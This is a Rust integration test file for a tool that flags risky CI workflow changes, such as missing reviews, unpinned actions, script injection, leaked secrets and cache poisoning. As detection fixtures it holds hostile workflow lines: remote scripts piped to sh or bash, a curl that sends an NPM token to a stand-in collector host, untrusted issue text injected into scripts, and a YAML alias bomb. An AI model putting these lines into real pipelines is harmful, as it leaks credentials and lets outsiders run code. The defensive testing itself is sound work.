//! CI workflow changes end to end: real repositories, the real binary, the
//! `supply-chain` preset. Every commit that must fail has a near miss that
//! must pass.

mod common;

use common::{Repo, Sandbox};

const POLICY: &str = "[policy]\nname = \"t\"\nextends = [\"supply-chain\"]\n";
const REVIEWED: &str = "\n\nReviewed-by: Rita Reviewer <rita@example.com>\n";
const WF: &str = ".github/workflows/ci.yml";
const SHA: &str = "b4ffde65f46336ab88eb53be808477a3936bae11";

fn f(rule: &str, path: &str, line: u64) -> (String, String, u64) {
    (rule.to_string(), path.to_string(), line)
}

fn repo_with<'s>(sb: &'s Sandbox, policy: &str) -> Repo<'s> {
    let r = sb.repo("r");
    r.policy(policy);
    r.commit_file("README", "x\n", "init");
    r
}

/// A pinned, harmless workflow with `steps` appended (each line indented by
/// the caller, from line 11 on).
fn workflow(on: &str, steps: &str) -> String {
    format!(
        "name: ci\non: {on}\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@{SHA} # v4\n        with: {{ persist-credentials: false }}\n{steps}"
    )
}

/// Commits a workflow with a review trailer, and returns the findings.
fn reviewed(r: &Repo, path: &str, text: &str) -> (i32, Vec<(String, String, u64)>) {
    r.commit_file(path, text, &format!("ci: change{REVIEWED}"));
    r.findings()
}

#[test]
fn a_workflow_change_needs_a_review_trailer_from_someone_else() {
    let sb = Sandbox::new();
    let r = repo_with(&sb, POLICY);
    r.commit_file(WF, workflow("push", ""), "ci: add");
    assert_eq!(r.findings(), (1, vec![f("workflow-review-missing", WF, 0)]));
    // A review by the author does not count.
    r.commit_file(
        WF,
        workflow("[push]", ""),
        "ci: tweak\n\nReviewed-by: Test User <test@example.com>\n",
    );
    assert_eq!(r.findings().0, 1);
    // Someone else's review passes.
    assert_eq!(
        reviewed(&r, WF, &workflow("[push, pull_request]", "")),
        (0, vec![])
    );
    // Deleting a workflow is a change too.
    r.git(&["rm", "-q", WF]);
    r.commit("ci: drop");
    assert_eq!(r.findings(), (1, vec![f("workflow-review-missing", WF, 0)]));
}

#[test]
fn maintainers_restrict_who_may_review() {
    let sb = Sandbox::new();
    let r = repo_with(
        &sb,
        &format!("{POLICY}maintainers = [\"Mia Maintainer <mia@example.com>\"]\n"),
    );
    assert_eq!(
        reviewed(&r, WF, &workflow("push", "")),
        (1, vec![f("workflow-review-missing", WF, 0)])
    );
    r.commit_file(
        WF,
        workflow("[push]", ""),
        "ci: tweak\n\nReviewed-by: Mia Maintainer <mia@example.com>\n",
    );
    assert_eq!(r.findings(), (0, vec![]));
}

#[test]
fn pull_request_target_with_a_head_checkout_fails() {
    let sb = Sandbox::new();
    let r = repo_with(&sb, POLICY);
    let steps = "      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n          persist-credentials: false\n";
    // Near miss: the same checkout under `pull_request` is fine.
    assert_eq!(
        reviewed(&r, WF, &workflow("pull_request", steps)),
        (0, vec![])
    );
    // Switching the trigger makes it dangerous: reported at the trigger.
    assert_eq!(
        reviewed(&r, WF, &workflow("pull_request_target", steps)),
        (1, vec![f("workflow-pr-target-checkout", WF, 2)])
    );
    // A checkout of the head added to a privileged workflow: reported at the checkout.
    let sb2 = Sandbox::new();
    let r2 = repo_with(&sb2, POLICY);
    reviewed(&r2, WF, &workflow("pull_request_target", ""));
    assert_eq!(
        reviewed(&r2, WF, &workflow("pull_request_target", steps)),
        (1, vec![f("workflow-pr-target-checkout", WF, 13)])
    );
}

#[test]
fn risky_lines_are_found_and_their_near_misses_pass() {
    let sb = Sandbox::new();
    let r = repo_with(&sb, POLICY);
    let safe = "      - run: curl -sSfL -o install.sh https://example.org/install.sh && sha256sum -c install.sh.sha256\n\
                \x20     - run: echo \"${{ secrets.DOCKER_PASSWORD }}\" | docker login -u me --password-stdin\n\
                \x20     - run: 'curl -H \"Authorization: token ${{ secrets.GITHUB_TOKEN }}\" https://api.github.com/repos/o/r'\n\
                \x20     # - run: curl https://example.org/x | sh   (commented out)\n\
                \x20       env:\n\
                \x20         TITLE: ${{ github.event.issue.title }}\n";
    assert_eq!(reviewed(&r, WF, &workflow("push", safe)), (0, vec![]));
    let risky = format!(
        "{safe}      - run: curl -sSfL https://example.org/install.sh | sh\n\
         \x20     - run: echo \"token ${{{{ secrets.DEPLOY_TOKEN }}}}\"\n\
         \x20     - run: curl -d @out https://collector.example.net/?t=${{{{ secrets.NPM_TOKEN }}}}\n\
         \x20     - run: echo \"${{{{ github.event.issue.title }}}}\"\n\
         \x20   permissions: write-all\n"
    );
    let (code, got) = reviewed(&r, WF, &workflow("push", &risky));
    assert_eq!(code, 1);
    assert_eq!(
        got,
        vec![
            f("workflow-remote-script", WF, 17),
            f("workflow-secret-leak", WF, 18),
            f("workflow-secret-to-url", WF, 19),
            f("workflow-write-all", WF, 21),
            // Structural (the script is known to be one): after the line rules.
            f("workflow-script-injection", WF, 20),
        ]
    );
}

#[test]
fn actions_must_be_pinned_to_a_commit_sha() {
    let sb = Sandbox::new();
    let r = repo_with(&sb, POLICY);
    let pinned = format!(
        "      - uses: actions/cache@{SHA} # v4\n\
         \x20     - uses: ./.github/actions/setup\n\
         \x20     - uses: docker://alpine@sha256:{}\n",
        "0".repeat(64)
    );
    assert_eq!(reviewed(&r, WF, &workflow("push", &pinned)), (0, vec![]));
    let unpinned = format!(
        "{pinned}      - uses: actions/cache@v4\n\
         \x20     - uses: \"dtolnay/rust-toolchain@master\"\n\
         \x20     - uses: docker://alpine:3.19\n\
         \x20     - {{ name: flow, uses: \"actions/cache@v4\" }}\n"
    );
    let (code, got) = reviewed(&r, WF, &workflow("push", &unpinned));
    assert_eq!(code, 0, "unpinned actions are warnings");
    assert_eq!(
        got,
        vec![
            f("workflow-unpinned-action", WF, 14),
            f("workflow-unpinned-action", WF, 15),
            f("workflow-unpinned-action", WF, 16),
            f("workflow-unpinned-action", WF, 17),
        ]
    );
}

#[test]
fn trusted_actions_and_hosts_from_the_policy_pass() {
    let sb = Sandbox::new();
    let r = repo_with(
        &sb,
        &format!(
            "{POLICY}\n[workflows]\ntrusted_actions = [\"actions/*\"]\ntrusted_hosts = [\"codecov.io\"]\n"
        ),
    );
    let steps = "      - uses: actions/cache@v4\n\
                 \x20     - run: 'curl -H \"Authorization: ${{ secrets.CODECOV_TOKEN }}\" https://api.codecov.io/upload'\n";
    let run = {
        r.commit_file(WF, workflow("push", steps), &format!("ci{REVIEWED}"));
        r.pc(&["check", "--format", "json", "HEAD"])
    };
    assert_eq!((run.code, run.rules()), (0, vec![]));
    assert_eq!(run.json()["summary"]["suppressed"], 1);
}

#[test]
fn gitlab_ci_and_policy_listed_files_are_checked() {
    let sb = Sandbox::new();
    let r = repo_with(
        &sb,
        &format!(
            "{POLICY}\n[workflows]\npaths = [\".circleci/config.yml\"]\n\n[[workflows.patterns]]\nid = \"self-hosted-runner\"\nrule = \"workflow-remote-script\"\nregex = 'runs-on:.*self-hosted'\ndescription = \"runs on a self-hosted runner\"\n"
        ),
    );
    r.write(
        ".gitlab-ci.yml",
        "test:\n  script:\n    - wget -qO- https://example.org/setup | bash\n",
    );
    r.write(
        ".circleci/config.yml",
        "jobs:\n  build:\n    runs-on: [self-hosted]\n",
    );
    r.write(
        "docs/.gitlab-ci.yml",
        "not: ci\n    - curl https://example.org/x | sh\n",
    );
    r.commit(&format!("ci: more{REVIEWED}"));
    assert_eq!(
        r.findings(),
        (
            0,
            vec![
                f("workflow-remote-script", ".circleci/config.yml", 3),
                f("workflow-remote-script", ".gitlab-ci.yml", 3),
            ]
        )
    );
}

#[test]
fn a_bad_pattern_in_the_policy_is_a_load_error_naming_it() {
    let sb = Sandbox::new();
    let r = sb.repo("r");
    r.policy(&format!(
        "{POLICY}\n[[workflows.patterns]]\nid = \"broken\"\nrule = \"workflow-remote-script\"\nregex = 'curl ('\n"
    ));
    r.commit_file("README", "x\n", "init");
    let run = r.pc(&["check", "HEAD"]);
    assert_eq!(run.code, 2, "{}", run.stdout);
    assert!(
        run.stderr.contains("workflows.patterns[broken].regex")
            && run.stderr.contains(".policy-check.toml:"),
        "{}",
        run.stderr
    );
    r.policy(&format!(
        "{POLICY}\n[[workflows.patterns]]\nid = \"x\"\nrule = \"no-such-rule\"\nregex = 'x'\n"
    ));
    let run = r.pc(&["check", "HEAD"]);
    assert_eq!(run.code, 2);
    assert!(
        run.stderr.contains("unknown rule `no-such-rule`"),
        "{}",
        run.stderr
    );
}

#[test]
fn crlf_and_renamed_workflows() {
    let sb = Sandbox::new();
    let r = repo_with(&sb, POLICY);
    let text =
        workflow("push", "      - run: curl https://example.org/i | sh\n").replace('\n', "\r\n");
    let (_, got) = reviewed(&r, WF, &text);
    assert_eq!(got, vec![f("workflow-remote-script", WF, 11)]);
    r.git(&["mv", WF, ".github/workflows/renamed.yml"]);
    r.commit("ci: rename");
    assert_eq!(
        r.findings(),
        (
            1,
            vec![f(
                "workflow-review-missing",
                ".github/workflows/renamed.yml",
                0
            )]
        )
    );
}

/// The findings of HEAD with their messages (for tests that check what a
/// finding says, not only where it is).
fn messages(r: &Repo) -> Vec<(String, u64, String)> {
    let run = r.pc(&["check", "--format", "json", "HEAD"]);
    assert!(run.code == 0 || run.code == 1, "{}", run.stderr);
    run.json()["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .map(|f| {
            (
                f["rule"].as_str().unwrap_or_default().to_string(),
                f["line"].as_u64().unwrap_or(0),
                f["message"].as_str().unwrap_or_default().to_string(),
            )
        })
        .collect()
}

/// Two jobs: one builds, the other checks out the head with `gh pr checkout`
/// (a `run:` step, not `actions/checkout`): the structure, not a line, says
/// the workflow is privileged.
const PR_TARGET_TWO_JOBS: &str = "\
name: label
on:
  pull_request_target:
    types: [labeled]
permissions:
  contents: read
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: echo triage
  build:
    runs-on: ubuntu-latest
    needs: triage
    steps:
      - run: |
          gh pr checkout \"$PR\"
          make test
        env:
          PR: ${{ github.event.pull_request.number }}
";

#[test]
fn a_head_checkout_in_another_job_of_a_privileged_workflow_is_found() {
    let sb = Sandbox::new();
    let r = repo_with(&sb, POLICY);
    // Near miss: the same jobs under `pull_request`.
    let near = PR_TARGET_TWO_JOBS.replace("pull_request_target:", "pull_request:");
    assert_eq!(reviewed(&r, WF, &near), (0, vec![]));
    // Under `pull_request_target`: the trigger is what the change added.
    assert_eq!(
        reviewed(&r, WF, PR_TARGET_TWO_JOBS),
        (1, vec![f("workflow-pr-target-checkout", WF, 3)])
    );
    // `workflow_run` with `actions/checkout` of the run's head, in a new file.
    let wf_run = "\
on:
  workflow_run:
    workflows: [ci]
    types: [completed]
permissions: {}
jobs:
  publish:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11
        with:
          persist-credentials: false
          ref: ${{ github.event.workflow_run.head_sha }}
      - run: ./publish.sh
";
    assert_eq!(
        reviewed(&r, ".github/workflows/publish.yaml", wf_run),
        (
            1,
            vec![f(
                "workflow-pr-target-checkout",
                ".github/workflows/publish.yaml",
                13
            )]
        )
    );
    let msgs = messages(&r);
    assert!(
        msgs[0].2.contains("`workflow_run`") && msgs[0].2.contains("job `publish`"),
        "{msgs:?}"
    );
}

#[test]
fn untrusted_expressions_in_scripts_are_found_structurally() {
    let sb = Sandbox::new();
    let r = repo_with(&sb, POLICY);
    // Near misses: through env, a number, a field read off an alternative.
    let safe = "      - run: |\n\
                \x20         echo \"$TITLE\"\n\
                \x20         echo \"${{ github.event.issue.number }}\"\n\
                \x20         echo \"${{ (github.event.pull_request || github.event.issue).number }}\"\n\
                \x20       env:\n\
                \x20         TITLE: ${{ github.event.issue.title }}\n";
    assert_eq!(reviewed(&r, WF, &workflow("issues", safe)), (0, vec![]));
    // In a block scalar (a line the regex sees alone), in github-script's
    // `script:` input, and a whole serialised event object.
    let risky = format!(
        "{safe}      - run: |\n\
         \x20         set -e\n\
         \x20         ${{{{ github.event.issue.body }}}}\n\
         \x20     - uses: actions/github-script@{SHA}\n\
         \x20       with:\n\
         \x20         script: |\n\
         \x20           console.log(\"${{{{ github.event.comment.body }}}}\")\n\
         \x20     - run: echo '${{{{ toJSON(github.event.issue) }}}}' > event.json\n"
    );
    assert_eq!(
        reviewed(&r, WF, &workflow("issues", &risky)),
        (
            0,
            vec![
                f("workflow-script-injection", WF, 19),
                f("workflow-script-injection", WF, 23),
                f("workflow-script-injection", WF, 24),
            ]
        )
    );
    // A composite action is a CI file too, read with the action model.
    let action = ".github/actions/greet/action.yml";
    let text = "\
name: greet
runs:
  using: composite
  steps:
    - shell: bash
      run: echo \"hello ${{ github.event.pull_request.title }}\"
";
    r.commit_file(action, text, "ci: action");
    assert_eq!(
        r.findings(),
        (
            1,
            vec![
                f("workflow-review-missing", action, 0),
                f("workflow-script-injection", action, 6),
            ]
        )
    );
}

#[test]
fn checkout_credentials_are_found_and_an_upload_is_named() {
    let sb = Sandbox::new();
    let r = repo_with(&sb, POLICY);
    let steps = format!(
        "      - uses: actions/checkout@{SHA}\n\
         \x20     - run: make dist\n\
         \x20     - uses: actions/upload-artifact@{SHA}\n\
         \x20       with:\n\
         \x20         path: .\n"
    );
    assert_eq!(
        reviewed(&r, WF, &workflow("push", &steps)),
        (0, vec![f("workflow-checkout-credentials", WF, 11)])
    );
    let msgs = messages(&r);
    assert!(
        msgs[0].2.contains("uploads an artifact (line 13)"),
        "{msgs:?}"
    );
    // A version bump of the same checkout adds no risk: not reported again.
    let bumped = steps.replace(
        &format!("checkout@{SHA}\n"),
        &format!("checkout@{}\n", "1".repeat(40)),
    );
    assert_eq!(reviewed(&r, WF, &workflow("push", &bumped)), (0, vec![]));
    // Near misses: `false` is the fix, `true` is a deliberate choice.
    let fixed = steps.replace(
        &format!("checkout@{SHA}\n"),
        &format!("checkout@{SHA}\n        with:\n          persist-credentials: true\n"),
    );
    assert_eq!(reviewed(&r, WF, &workflow("push", &fixed)), (0, vec![]));
}

#[test]
fn caches_on_privileged_or_publishing_runs_are_found() {
    let sb = Sandbox::new();
    let r = repo_with(&sb, POLICY);
    let cache =
        format!("      - uses: Swatinem/rust-cache@{SHA}\n      - run: cargo build --release\n");
    // Near miss: caching on push is ordinary.
    assert_eq!(reviewed(&r, WF, &workflow("push", &cache)), (0, vec![]));
    // The trigger becomes `release`: reported at the trigger the change added.
    assert_eq!(
        reviewed(&r, WF, &workflow("release", &cache)),
        (0, vec![f("workflow-cache-poisoning", WF, 2)])
    );
    // A job that publishes caches, whatever its trigger; `lookup-only` opts out.
    let sb2 = Sandbox::new();
    let r2 = repo_with(&sb2, POLICY);
    let publish = format!(
        "      - uses: actions/setup-node@{SHA}\n\
         \x20       with:\n\
         \x20         cache: npm\n\
         \x20     - uses: Swatinem/rust-cache@{SHA}\n\
         \x20       with:\n\
         \x20         lookup-only: true\n\
         \x20     - run: cargo publish --locked\n"
    );
    assert_eq!(
        reviewed(&r2, WF, &workflow("push", &publish)),
        (0, vec![f("workflow-cache-poisoning", WF, 11)])
    );
    let dry = publish.replace("cargo publish --locked", "cargo publish --dry-run");
    let sb3 = Sandbox::new();
    let r3 = repo_with(&sb3, POLICY);
    assert_eq!(reviewed(&r3, WF, &workflow("push", &dry)), (0, vec![]));
}

#[test]
fn self_hosted_runners_on_fork_triggers_are_found() {
    let sb = Sandbox::new();
    let r = repo_with(&sb, POLICY);
    let text = |on: &str, runs_on: &str| {
        format!(
            "on: {on}\npermissions: {{}}\njobs:\n  test:\n    runs-on: {runs_on}\n    strategy:\n      matrix:\n        os: [ubuntu-latest, self-hosted]\n    steps:\n      - run: make test\n"
        )
    };
    // Near miss: a self-hosted runner for pushes only.
    assert_eq!(
        reviewed(&r, WF, &text("push", "[self-hosted, linux]")),
        (0, vec![])
    );
    assert_eq!(
        reviewed(&r, WF, &text("pull_request", "[self-hosted, linux]")),
        (0, vec![f("workflow-self-hosted-runner", WF, 1)])
    );
    // Through the matrix: `runs-on: ${{ matrix.os }}` is a changed line.
    assert_eq!(
        reviewed(&r, WF, &text("pull_request", "${{ matrix.os }}")),
        (0, vec![f("workflow-self-hosted-runner", WF, 5)])
    );
}

#[test]
fn default_and_broad_token_permissions_are_found_on_added_jobs() {
    let sb = Sandbox::new();
    let r = repo_with(&sb, POLICY);
    let jobs = |extra: &str| {
        format!(
            "on: push\n{extra}jobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n  release:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: write\n    steps:\n      - run: make release\n"
        )
    };
    // No permissions anywhere for `test`: reported at the job.
    assert_eq!(
        reviewed(&r, WF, &jobs("")),
        (0, vec![f("workflow-permissions-default", WF, 3)])
    );
    // Write at the top reaches `test` too.
    let sb2 = Sandbox::new();
    let r2 = repo_with(&sb2, POLICY);
    assert_eq!(
        reviewed(&r2, WF, &jobs("permissions:\n  contents: write\n")),
        (0, vec![f("workflow-permissions-broad", WF, 3)])
    );
    // Near misses: read at the top; a reusable workflow (the caller's token).
    let sb3 = Sandbox::new();
    let r3 = repo_with(&sb3, POLICY);
    assert_eq!(
        reviewed(&r3, WF, &jobs("permissions:\n  contents: read\n")),
        (0, vec![])
    );
    let reusable = jobs("").replace("on: push", "on:\n  workflow_call:");
    assert_eq!(
        reviewed(&r3, ".github/workflows/reusable.yml", &reusable),
        (0, vec![])
    );
    // An unrelated edit of a job without permissions is not reported again.
    let edited = jobs("").replace("make test", "make check");
    r.commit_file(WF, edited, &format!("ci: check{REVIEWED}"));
    assert_eq!(r.findings(), (0, vec![]));
}

#[test]
fn a_workflow_that_is_not_yaml_or_not_a_workflow_is_reported_or_read_line_by_line() {
    let sb = Sandbox::new();
    let r = repo_with(&sb, POLICY);
    // Not YAML: a clear finding with the parser's line; the line rules still run.
    let broken = "on: push\njobs:\n  test:\n    steps: [ {run: curl https://example.org/x | sh\n";
    assert_eq!(
        reviewed(&r, WF, broken),
        (
            0,
            vec![
                f("workflow-invalid", WF, 5),
                f("workflow-remote-script", WF, 4),
            ]
        )
    );
    let msgs = messages(&r);
    assert!(msgs[0].2.contains("is not valid YAML"), "{msgs:?}");
    // An alias bomb: refused by the parser's limits, never a hang or a crash.
    let mut bomb = String::from("a: &a [\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\"]\n");
    for i in 0..9 {
        let (p, n) = ((b'a' + i) as char, (b'b' + i) as char);
        bomb.push_str(&format!(
            "{n}: &{n} [*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p}]\n"
        ));
    }
    assert_eq!(
        reviewed(&r, ".github/workflows/bomb.yml", &bomb),
        (
            0,
            vec![f("workflow-invalid", ".github/workflows/bomb.yml", 0)]
        )
    );
    assert!(messages(&r)[0].2.contains("repetition limit"));
    // YAML but not a workflow: no finding, a -v note, and the line rules.
    let notes = "just: notes\nsteps:\n  - curl https://example.org/x | sh\n";
    r.commit_file(
        ".github/workflows/notes.yml",
        notes,
        &format!("ci: notes{REVIEWED}"),
    );
    let run = r.pc(&["-v", "check", "--format", "json", "HEAD"]);
    assert_eq!(run.rules(), vec!["workflow-remote-script".to_string()]);
    assert!(
        run.stderr.contains(".github/workflows/notes.yml")
            && run.stderr.contains("checked line by line only"),
        "{}",
        run.stderr
    );
    // Over 1 MiB: not parsed (a -v note), the line rules still run.
    let mut big = String::from(
        "on: pull_request
jobs:
  test:
    runs-on: [self-hosted]
    steps:
",
    );
    while big.len() <= 1 << 20 {
        big.push_str(
            "      - run: echo one line of a very long workflow\n
",
        );
    }
    big.push_str(
        "      - run: curl https://example.org/x | sh
",
    );
    let last = big.lines().count() as u64;
    r.commit_file(
        ".github/workflows/big.yml",
        &big,
        &format!("ci: big{REVIEWED}"),
    );
    let run = r.pc(&["-v", "check", "--format", "json", "HEAD"]);
    assert_eq!(run.rules(), vec!["workflow-remote-script".to_string()]);
    assert_eq!(run.json()["findings"][0]["line"], last);
    assert!(
        run.stderr.contains("checked line by line only"),
        "{}",
        run.stderr
    );
}
